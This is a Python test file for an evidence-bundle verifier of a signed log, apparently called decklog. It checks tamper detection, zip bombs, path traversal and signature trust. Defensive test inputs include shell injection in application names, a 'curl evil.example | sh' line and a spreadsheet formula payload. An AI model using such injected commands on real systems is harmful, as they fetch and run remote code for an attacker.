"""Evidence bundles: the same for the same, whole, and with one thing changed the verifier says what."""

import hashlib
import io
import json
import subprocess
import tracemalloc
import zipfile

import pytest

from decklog.client import failures
from decklog.model import envelope, evidence, headers, payload_file, receipt, selection
from decklog.model.tlog import keys, policy
from decklog.verifier import evidence as making
from decklog.verifier import evidence_check, source
from tests import log_files

TRUSTED = evidence_check.Trusted(log=policy.of_keys([log_files.SIGNER.verifier]))
SIZE = 900
BASE = 1_700_000_000_000_000
KEPT = headers.encode([("traceparent", b"\xff"), ("x", None)])


def of_shop(leaf):
    """The leaves of the application: two neighbours with payloads and one without, and then none for a while."""
    return leaf % 30 in (1, 2, 9)


def _entry(number, data):
    """Most leaves are of another application, every tenth has no payload."""
    said = receipt.parse(data)._replace(commitment=receipt.commitment(*log_files.payload(number, KEPT)))
    if number % 10 == 9:
        said = said._replace(kind=receipt.Kind.DUPLICATE, commitment=None, about=receipt.Original(number - 1))
    return receipt.encode(said._replace(key="dev/shop" if of_shop(number) else "dev/other"))


ENTRIES = [_entry(number, data) for number, data in enumerate(log_files.receipts(SIZE))]
SHOP = selection.Selection(application="shop", since=BASE + 300, until=BASE + 599)


@pytest.fixture(scope="module")
def folder(tmp_path_factory):
    path = tmp_path_factory.mktemp("log")
    log_files.write(path, ENTRIES)
    return path


def said(leaves):
    """What a server says of leaves."""
    for leaf in leaves:
        none = payload_file.encode(None, None, None, committed=False)
        record = none if leaf % 10 == 9 else payload_file.encode(*log_files.payload(leaf, KEPT), KEPT, committed=True)
        (parsed,) = payload_file.records(io.BytesIO(record).read)
        moment = {"kind": "ObjectChanged", "actor": "=HYPERLINK(1)", "summary": f"settings {leaf}, changed"}
        yield making.Said(leaf, moment, {"n": leaf}, parsed)


def made(folder, chosen=SHOP, leaves=None, said=said):
    log = making.pinned(source.Folder(folder), None)
    where = making.stretch(log, chosen) if leaves is None else None
    found = making.chosen_leaves(log, chosen, where) if leaves is None else leaves
    out = io.BytesIO()
    making.write(out, log, making.Wanted(chosen=chosen, leaves=found, stretch=where), said)
    return out.getvalue()


@pytest.fixture(scope="module")
def whole(folder):
    return made(folder)


def files(data):
    with zipfile.ZipFile(io.BytesIO(data)) as opened:
        return {name: opened.read(name) for name in opened.namelist()}


def packed(found, *, sums=True):
    """A zip of these files, with digests that fit unless told otherwise: whoever changes one can change both."""
    found = {name: data for name, data in found.items() if name != evidence.SUMS} | (
        {} if sums else {evidence.SUMS: found[evidence.SUMS]}
    )
    if sums:
        found[evidence.SUMS] = evidence.sums((name, hashlib.sha256(data).hexdigest()) for name, data in found.items())
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as opened:
        for name, data in found.items():
            opened.writestr(name, data)
    return out.getvalue()


def verdict(tmp_path, data, trusted=TRUSTED):
    file = tmp_path / "x.zip"
    file.write_bytes(data)
    return evidence_check.verify(file, trusted)


def told(tmp_path, data, **more):
    return [str(one) for one in verdict(tmp_path, data, **more).findings]


def test_a_stretch_of_an_application_verifies(tmp_path, whole):
    """Exactly the leaves between the moments whose key is the application's, proved, with what they commit to."""
    found = verdict(tmp_path, whole)
    assert [str(one) for one in found.findings] == []
    expected = [leaf for leaf in range(300, 600) if of_shop(leaf)]
    assert found.leaves == len(expected)
    assert found.payloads == len([leaf for leaf in expected if leaf % 10 != 9])
    assert found.stretch == (300, 600)
    assert "are all of application shop" in found.completeness


@pytest.mark.parametrize(
    ("since", "until", "stretch"),
    [
        (None, None, (0, 900)),
        (0, BASE, (0, 1)),
        (BASE + 899, None, (899, 900)),
        (BASE + 255, BASE + 256, (255, 257)),
        (BASE + 10**9, None, (900, 900)),
        (0, 5, (0, 0)),
    ],
)
def test_every_stretch_has_its_ends(tmp_path, folder, since, until, stretch):
    """At the ends of the log and of its tiles, and where nothing was recorded."""
    found = verdict(tmp_path, made(folder, selection.Selection(application="shop", since=since, until=until)))
    assert ([str(one) for one in found.findings], found.stretch) == ([], stretch)


def test_named_leaves_verify_and_claim_nothing_of_others(tmp_path, folder):
    """The first, the last, and one between; without a payload, too."""
    found = verdict(tmp_path, made(folder, selection.Selection(), [0, 309, 899]))
    assert (found.findings, found.leaves, found.payloads) == ([], 3, 1)
    assert found.completeness == "It holds the 3 leaves that were named, and says nothing of others."


def test_the_same_is_the_same_byte_for_byte(folder, whole):
    """The same leaves under the same checkpoint."""
    assert made(folder) == whole


def test_rows_are_readable_and_no_formula(whole):
    """One row a leaf, as JSON and as a table; no spreadsheet computes what somebody wrote."""
    found = files(whole)
    rows = json.loads(found[evidence.ROWS])
    assert [row["leaf"] for row in rows] == [leaf for leaf in range(300, 600) if of_shop(leaf)]
    assert (rows[0]["actor"], rows[0]["data"]) == ("=HYPERLINK(1)", {"n": 301})
    table = found[evidence.TABLE].decode().splitlines()
    assert table[0].split(",") == list(evidence.COLUMNS)
    assert "'=HYPERLINK(1)" in table[1]
    assert len(table) == len(rows) + 1
    kept = json.loads(found[evidence.folder(301) + evidence.HEADERS])
    assert {"name": "ce_type", "value": "dev.decklog.v1.ObjectChanged", "from": "receipt"} in kept
    assert {"name": "traceparent", "base64": "/w==", "from": "record"} in kept


LEAF = evidence.folder(301)


def replaced(name, old, new):
    def change(found):
        assert old in found[name], name
        found[name] = found[name].replace(old, new, 1)

    return change


def removed(name):
    return lambda found: found.pop(name)


def added(name, data=b"x"):
    return lambda found: found.update({name: data})


def exchanged(name):
    other = evidence.folder(302)

    def change(found):
        found[LEAF + name], found[other + name] = found[other + name], found[LEAF + name]

    return change


def without_leaf(found):
    """A leaf left out, with everything that speaks of it: what a forger would do."""
    for name in [name for name in found if name.startswith(LEAF)]:
        del found[name]
    rows = [row for row in json.loads(found[evidence.ROWS]) if row["leaf"] != 301]
    found[evidence.ROWS] = b"".join(evidence.rows_json(rows))
    found[evidence.TABLE] = b"".join(evidence.rows_csv(rows))
    for name in (evidence.MANIFEST, evidence.VERIFY):
        found[name] = found[name].replace(b"these 30 are", b"these 29 are").replace(b'"leaves": 30', b'"leaves": 29')


KEPT_LAST = b',\n  {\n    "name": "x",\n    "value": null,\n    "from": "record"\n  }\n]'
TAMPERS = {
    "a receipt": (replaced(LEAF + "receipt.json", b"dev/shop", b"dev/shoq"), f"leaf 301: {LEAF}proof.tlog-proof: "),
    "a proof": (replaced(LEAF + "proof.tlog-proof", b"index 301", b"index 302"), f"leaf 301: {LEAF}proof.tlog-proof: "),
    "a value": (replaced(LEAF + "value.bin", b"301", b"302"), f"leaf 301: {LEAF}value.bin: it is not the payload"),
    "a salt": (added(LEAF + "salt.bin", bytes(32)), f"leaf 301: {LEAF}value.bin: it is not the payload"),
    "a header": (
        replaced(LEAF + "headers.json", b"ObjectChanged", b"ObjectDeleted"),
        f"leaf 301: {LEAF}headers.json: they are not those that its leaf has",
    ),
    "a header that no receipt repeats": (
        replaced(LEAF + "headers.json", b'"base64": "/w=="', b'"base64": "/g=="'),
        f"leaf 301: {LEAF}headers.json: they are not those that its leaf commits to",
    ),
    "such a header left out": (
        replaced(LEAF + "headers.json", KEPT_LAST, b"\n]"),
        f"leaf 301: {LEAF}headers.json: they are not those that its leaf commits to",
    ),
    "such a header where nothing was kept": (
        replaced(evidence.folder(309) + "headers.json", b"\n]", KEPT_LAST),
        f"leaf 309: {evidence.folder(309)}headers.json: its leaf has none of a record, or no longer",
    ),
    "receipts exchanged": (exchanged("receipt.json"), f"leaf 301: {LEAF}proof.tlog-proof: it is a proof of another"),
    "proofs exchanged": (exchanged("proof.tlog-proof"), f"leaf 301: {LEAF}proof.tlog-proof: it is a proof of leaf 302"),
    "values exchanged": (exchanged("value.bin"), f"leaf 301: {LEAF}value.bin: it is not the payload"),
    "a value removed": (removed(LEAF + "value.bin"), "MANIFEST.json: the leaves without payload are others"),
    "a proof removed": (removed(LEAF + "proof.tlog-proof"), f"{LEAF}proof.tlog-proof: it is missing"),
    "a row's subject": (
        replaced("rows.json", b"dev/shop/ConfigMap/301", b"dev/shop/ConfigMap/300"),
        "leaf 301: rows.json: its row says something else than the receipt",
    ),
    "a row's number as another kind": (
        replaced("rows.json", b'"leaf":301,', b'"leaf":301.0,'),
        "leaf 301: rows.json: its row says something else than the receipt",
    ),
    "a row's number said twice": (
        replaced("rows.json", b'"leaf":301,', b'"leaf":300,"leaf":301,'),
        "rows.json: it is not written as rows are",
    ),
    "another column": (
        replaced("rows.json", b'{"leaf":301,', b'{"approved":true,"leaf":301,'),
        "leaf 301: rows.json: its row has other columns",
    ),
    "a row that is nested deeply": (
        replaced("rows.json", b'"data":{"n":301}', b'"data":' + b"[" * 500 + b"]" * 500),
        "rows.json: it is not written as rows are",
    ),
    "a row's number that is nested deeply": (
        replaced("rows.json", b'"leaf":301,', b'"leaf":' + b"[" * 500 + b"]" * 500 + b","),
        "leaf 301: rows.json: its row says something else",
    ),
    "a header that is too long": (
        replaced(LEAF + "headers.json", b'"name": "x"', b'"name": "' + b"x" * 70_000 + b'"'),
        f"leaf 301: {LEAF}headers.json: they cannot be read: a header is longer",
    ),
    "rows that are no array": (replaced("rows.json", b"[\n", b""), "rows.json: it is not written as rows are"),
    "a cell of the table": (replaced("rows.csv", b"settings 301", b"settings 300"), "rows.csv: it is not the table"),
    "a leaf left out": (
        without_leaf,
        "leaf 301: log/tile/entries/001: the selection takes it, and it is not there",
    ),
    "the moments": (
        replaced("MANIFEST.json", b'"since_us": 1700000000000300', b'"since_us": 1700000000000301'),
        "MANIFEST.json: it does not say what belongs",
    ),
    "a sentence of the manifest": (
        replaced("MANIFEST.json", b"are all of", b"are some of"),
        "MANIFEST.json: it does not say",
    ),
    "the guide": (replaced("VERIFY.md", b"sha256sum -c", b"echo"), "VERIFY.md: it is not the one that belongs"),
    "a tool": (
        replaced("tools/main.go", b"os.Exit(1)", b"os.Exit(0)"),
        "tools/main.go: it is not the one that belongs",
    ),
    "a receipt of the stretch": (
        replaced("log/tile/entries/001", b"dev/shop", b"dev/shoq"),
        "leaf 256: log/tile/entries/001",
    ),
    "a hash of the stretch": (
        lambda found: found.update({"log/tile/0/001": bytes(32) + found["log/tile/0/001"][32:]}),
        "leaf 256: log/tile/0/001",
    ),
    "entries of the stretch removed": (removed("log/tile/entries/002"), "log/tile/entries/002: it is missing"),
    "another file": (added("leaves/000000000301/more"), "leaves/000000000301/more: no evidence has such a file"),
    "another part of the log": (added("log/tile/0/000"), "log/tile/0/000: it is no part of the stretch"),
    "the checkpoint": (replaced("checkpoint", b"\n900\n", b"\n901\n"), "checkpoint: "),
}


@pytest.mark.parametrize("tamper", TAMPERS)
def test_whatever_is_changed_is_named(tmp_path, whole, tamper):
    """With digests that fit, as a forger would make them: what is proved does not rest on them."""
    change, expected = TAMPERS[tamper]
    found = files(whole)
    change(found)
    problems = told(tmp_path, packed(found))
    assert any(one.startswith(expected) for one in problems), problems


def test_a_record_without_a_value_is_proved_by_its_salt(tmp_path):
    """Its headers are what there is of it: the leaf commits to them through the salt, and to there being no value."""
    salt, _ = log_files.payload(3, KEPT)
    null = receipt.parse(ENTRIES[3])._replace(
        kind=receipt.Kind.POISON,
        about=receipt.Poison(envelope.NO_VALUE),
        commitment=receipt.commitment(salt, b""),
        length=0,
    )
    log_files.write(tmp_path, [*ENTRIES[:3], receipt.encode(null), *ENTRIES[4:]])
    record = payload_file.encode(salt, None, KEPT, committed=True)
    (kept,) = payload_file.records(io.BytesIO(record).read)
    data = made(
        tmp_path, selection.Selection(), [3], lambda leaves: (one._replace(payload=kept) for one in said(leaves))
    )
    found, where = files(data), evidence.folder(3)
    assert (where + "salt.bin" in found, where + "value.bin" in found) == (True, False)
    whole = verdict(tmp_path, data)
    assert ([str(one) for one in whole.findings], whole.payloads) == ([], 1)
    other = found[where + "headers.json"].replace(b'"name": "x"', b'"name": "y"')
    forged = receipt.salt(salt[:16], headers.encode([("traceparent", b"\xff"), ("y", None)]))
    for changed, problem in (
        ({"headers.json": other}, "headers.json: they are not those that its leaf commits to"),
        ({"headers.json": other, "salt.bin": forged}, "salt.bin: it is not the payload that its leaf commits to"),
        ({"value.bin": b""}, "value.bin: its leaf is of a record without a value, or of one with an empty one"),
    ):
        problems = told(tmp_path, packed(found | {where + name: data for name, data in changed.items()}))
        assert f"leaf 3: {where}{problem}" in problems


def test_evidence_of_events_has_no_part_of_the_log(tmp_path, folder):
    """Nothing of it would be looked at, and it would be unpacked wherever its name leads."""
    found = files(made(folder, selection.Selection(), [0, 309]))
    names = ["log/../../x", "log/tile/0/000"]
    problems = told(tmp_path, packed(found | dict.fromkeys(names, b"x")))
    assert problems == [f"{name}: evidence of events has no part of the log" for name in names]


def test_a_name_that_no_application_has_is_refused(tmp_path, folder):
    """It would stand in the commands of VERIFY.md, which people are told to run."""
    for name in ("x' proved; touch x; '", "shop\n\n    curl evil.example | sh\n", "sh.p", "Shop"):
        problems = told(tmp_path, made(folder, selection.Selection(application=name)))
        assert "MANIFEST.json: it is no manifest of evidence" in problems


def test_the_guide_lists_the_leaves_that_the_rule_takes(folder, tmp_path):
    """By its own command: none of a source, a cluster or a scope that is called like the application."""
    keys_of = {
        "decklog.live.v1": ["dev/shop", "other/shop", "@x/shop", "dev/shop-2", "shop", "dev/a/shop"],
        "decklog.fleet.v1": ["application/shop", "source/shop", "cluster/shop"],
    }
    entries = [
        receipt.encode(said._replace(key=key, place=said.place._replace(topic=topic)))
        for topic, names in keys_of.items()
        for key in names
        for said in [receipt.parse(ENTRIES[0])]
    ]
    (tmp_path / "proved").write_bytes(b"".join(b"%012d %b\n" % numbered for numbered in enumerate(entries)))
    (command,) = (line for line in files(made(folder))["VERIFY.md"].decode().split("\n") if "awk " in line)
    done = subprocess.run(["sh", "-c", command], cwd=tmp_path, capture_output=True, text=True, check=True)
    assert [int(line) for line in done.stdout.split()] == [
        number for number, entry in enumerate(entries) if SHOP.takes(entry)
    ]


def test_a_time_stamp_that_nobody_spoke_of_is_named(tmp_path, whole):
    """Its manifest says that there is none; and whoever asks for one is told that there is none."""
    found = files(whole)
    found["time/token.tsr"] = b"x"
    assert told(tmp_path, packed(found)) == ["time/token.tsr: MANIFEST.json names no time stamp"]


def deflated(found):
    """The files in a zip that is packed."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as opened:
        for name, data in found.items():
            opened.writestr(name, data)
    return out.getvalue()


def peak(tmp_path, data):
    """Findings about a bundle, and the most bytes that Python had allocated meanwhile."""
    file = tmp_path / "x.zip"
    file.write_bytes(data)
    tracemalloc.start()
    try:
        found = evidence_check.verify(file, TRUSTED)
        return [str(one) for one in found.findings], tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "problem"),
    [
        ("rows.json", "rows.json: it cannot be read: line 1 has more than"),
        ("MANIFEST.json", "MANIFEST.json: it cannot be read: it has more than"),
        ("log/tile/entries/001", "log/tile/entries/001: it cannot be read: it has more than"),
    ],
)
def test_a_file_that_grows_when_it_is_unpacked_is_named(tmp_path, whole, name, problem):
    """A small bundle with one long line in it, a thousand times as large: memory stays what it was."""
    problems, most = peak(tmp_path, deflated(files(whole) | {name: bytes(96 << 20)}))
    assert any(one.startswith(problem) for one in problems), problems
    assert most < 90 << 20


def test_a_bundle_is_unpacked_by_zip_or_by_nothing(tmp_path, whole):
    """Other ways of packing unpack all at once, whatever comes out."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_LZMA) as opened:
        for name, data in files(whole).items():
            opened.writestr(name, data)
    assert told(tmp_path, out.getvalue())[0] == (
        "SHA256SUMS: it cannot be read: it is neither stored nor deflated: unpack it, and pack it with `zip -rD`"
    )
    assert told(tmp_path, deflated(files(whole))) == []


def test_a_bundle_that_others_unpack_otherwise_is_told(tmp_path, whole):
    """Something behind it, and the same digests as ever."""
    (found,) = told(tmp_path, whole + b"x")
    assert found.startswith("the zip: it does not end with its directory")
    assert found.endswith(": other programs may unpack something else")


@pytest.mark.parametrize("number", ["9" * 5000, "9" * 19, "-1", ""])
def test_a_leaf_that_has_no_number_of_one_is_named(tmp_path, whole, number):
    """However many digits it has."""
    problems = told(tmp_path, packed(files(whole) | {f"leaves/{number}/receipt.json": b"x"}))
    assert f"leaves/{number}/: no leaf is called so" in problems


@pytest.mark.parametrize(
    ("old", "new"), [(b'"first": 300', b'"first": 300.0'), (b'"without_payload": [', b'"without_payload": [[1],')]
)
def test_a_manifest_of_other_kinds_of_values_is_none(tmp_path, whole, old, new):
    """Numbers are numbers."""
    found = files(whole)
    replaced("MANIFEST.json", old, new)(found)
    assert "MANIFEST.json: it is no manifest of evidence" in told(tmp_path, packed(found))


def test_digests_name_every_file_that_differs(tmp_path, whole):
    """Without any key: what differs from SHA256SUMS, what it does not name, and what is missing."""
    found = files(whole)
    found["rows.csv"] += b"x"
    del found["tools/signature.sh"]
    found["more"] = b""
    problems = told(tmp_path, packed(found, sums=False))
    for expected in (
        "rows.csv: it is not the file whose digest SHA256SUMS has",
        "tools/signature.sh: it is missing",
        "more: SHA256SUMS does not name it",
        "more: no evidence has such a file",
    ):
        assert expected in problems


@pytest.mark.parametrize(
    ("more", "problem"),
    [(b"0" * 64 + b"  rows.csv\n", "SHA256SUMS: it names a file twice"), (b"x\n", "SHA256SUMS: line 147 is no digest")],
)
def test_digests_that_sha256sum_would_read_otherwise_are_told(tmp_path, whole, more, problem):
    """A second digest of a file, and a line that is none."""
    found = files(whole)
    found["SHA256SUMS"] += more
    problems = told(tmp_path, packed(found, sums=False))
    assert [one[: len(problem)] for one in problems if one.startswith("SHA256SUMS")] == [problem]


def test_a_bundle_of_another_key_is_refused(tmp_path, whole):
    """Somebody else's signature proves nothing."""
    other = keys.from_pem(keys.new_pem(b"o" * 32), log_files.SIGNER.name)
    (found,) = told(tmp_path, whole, trusted=evidence_check.Trusted(log=policy.of_keys([other.verifier])))
    assert found.startswith("checkpoint: ")


@pytest.mark.parametrize("data", [b"", b"PK", b"x" * 500])
def test_what_is_no_bundle_is_refused(tmp_path, data):
    """With where and what to do."""
    with pytest.raises(failures.Misconfigured, match="the bundle cannot be read"):
        verdict(tmp_path, data)


@pytest.mark.slow
def test_any_byte_of_the_file_counts(tmp_path, whole):
    """Flipped anywhere: found, or no zip any more; but for what only says how it is packed."""
    for at in range(0, len(whole), len(whole) // 60):
        data = bytearray(whole)
        data[at] ^= 1
        try:
            problems = told(tmp_path, bytes(data))
        except failures.Misconfigured:
            continue
        with zipfile.ZipFile(io.BytesIO(data)) as opened:
            try:
                same = {name: opened.read(name) for name in opened.namelist()} == files(whole)
            except (zipfile.BadZipFile, NotImplementedError, RuntimeError, ValueError):
                same = False
        assert problems or same, at


def test_an_answer_that_lacks_a_leaf_makes_no_bundle(folder):
    """The server must say something of every leaf that was asked for."""
    log = making.pinned(source.Folder(folder), None)
    wanted = making.Wanted(chosen=selection.Selection(), leaves=[1, 2], stretch=None)
    with pytest.raises(failures.Unavailable, match="does not say anything of leaf 2"):
        making.write(io.BytesIO(), log, wanted, lambda leaves: said(leaves[:1]))
